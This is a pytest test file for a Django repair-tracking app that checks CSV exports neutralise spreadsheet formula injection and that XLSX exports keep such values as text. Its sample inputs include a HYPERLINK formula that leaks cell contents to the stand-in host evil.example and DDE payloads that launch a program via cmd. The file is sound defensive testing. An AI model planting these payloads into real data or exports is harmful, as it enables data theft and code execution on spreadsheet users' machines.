"""Every CSV download neutralises cells a spreadsheet would run as a formula (OWASP), once,
in the shared writer; real figures stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from common.downloads import csv_cell
from recording.models import Vendor
from recording.services.repairs import repair_report_fault, repair_ship

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
CMD = "+1+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CMD, "'" + CMD),
        ("@A1", "'@A1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width equals sign
        ("Kamera mati", "Kamera mati"),
        ("a=b", "a=b"),  # only a leading trigger counts
        ("", ""),
        (None, ""),
        (-5, "-5"),  # a number is a figure: never changed
        (Decimal("-1.5"), "-1.5"),
        (360381, "360381"),
        (Decimal("81.4"), "81.4"),
        (True, "true"),
        (dt.date(2012, 4, 16), "2012-04-16"),
    ],
)
def test_csv_cell_neutralises_text_a_spreadsheet_would_evaluate(value, written):
    assert csv_cell(value) == written


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


@pytest.fixture
def hostile_devices(make_device):
    """Two OKU Timur devices whose labels, symptom and ticket are formulas, one at a vendor."""
    today = timezone.localdate()
    vendor = Vendor.objects.create(
        name="=cmd|' /C calc'!A0", contact="@SUM(1+1)*cmd", agreed_repair_days=1
    )
    plus = make_device("16.08.01", serial="EVIL-1", label="+SUM(1,2)")
    minus = make_device("16.08.01", serial="EVIL-2", label="-1+1")
    make_device("16.08.01", serial="EVIL-3", label="@A1")
    repair_report_fault(
        device=plus, reported_on=today - dt.timedelta(days=9), symptom=HYPERLINK, user=None
    )
    repair_report_fault(
        device=minus, reported_on=today - dt.timedelta(days=8), symptom="x", user=None
    )
    repair_ship(device=minus, shipped_on=today - dt.timedelta(days=5), vendor=vendor, user=None)
    minus.repairs.update(vendor_reference=CMD)
    return vendor


def test_dashboard_csv_neutralises_device_labels(client, admin_user, hostile_devices):
    client.force_login(admin_user)
    rows = _rows(client.get("/wilayah/16.08.01/?_export=csv"))
    names = {row["code"]: row["name"] for row in rows}
    assert names == {"EVIL-1": "'+SUM(1,2)", "EVIL-2": "'-1+1", "EVIL-3": "'@A1"}
    # Figures stay plain numbers.
    assert {row["devices"] for row in rows} == {"1"}


def test_repairs_csv_neutralises_symptom_ticket_and_labels(client, admin_user, hostile_devices):
    client.force_login(admin_user)
    rows = {row["serial"]: row for row in _rows(client.get("/perbaikan/?_export=csv"))}
    assert rows["EVIL-1"]["symptom"] == "'" + HYPERLINK
    assert rows["EVIL-1"]["label"] == "'+SUM(1,2)"
    assert rows["EVIL-2"]["vendor_reference"] == "'" + CMD
    assert rows["EVIL-2"]["vendor"] == "'=cmd|' /C calc'!A0"
    assert rows["EVIL-2"]["label"] == "'-1+1"
    assert rows["EVIL-2"]["days_down"] == "8"


def test_vendor_report_csv_neutralises_vendor_name_and_contact(client, admin_user, hostile_devices):
    client.force_login(admin_user)
    response = client.get("/vendor/?_export=csv")
    assert 'filename="laporan-vendor-' in response["Content-Disposition"]
    [row] = _rows(response)
    assert row == {
        "vendor": "'=cmd|' /C calc'!A0",
        "contact": "'@SUM(1+1)*cmd",
        "agreed_repair_days": "1",
        "repairs": "1",
        "open": "1",
        "closed": "0",
        "median_turnaround_days": "",
        "worst_turnaround_days": "",
        "overdue": "1",
    }


def test_vendor_report_xlsx_keeps_text_as_text(client, admin_user, hostile_devices):
    client.force_login(admin_user)
    response = client.get("/vendor/?_export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[2]][:3] == ["Vendor", "Kontak", "Waktu disepakati (hari)"]
    name = sheet.cell(row=3, column=1)
    assert name.value == "=cmd|' /C calc'!A0"
    assert name.data_type == "s"  # a string cell, not a formula
    assert [cell.value for cell in sheet[3]][2:] == [1, 1, 1, 0, None, None, 1]


def test_vendor_report_refuses_an_unknown_format(client, admin_user):
    client.force_login(admin_user)
    response = client.get("/vendor/?_export=pdf")
    assert response.status_code == 400
    assert "“pdf” tidak dikenal" in response.content.decode()
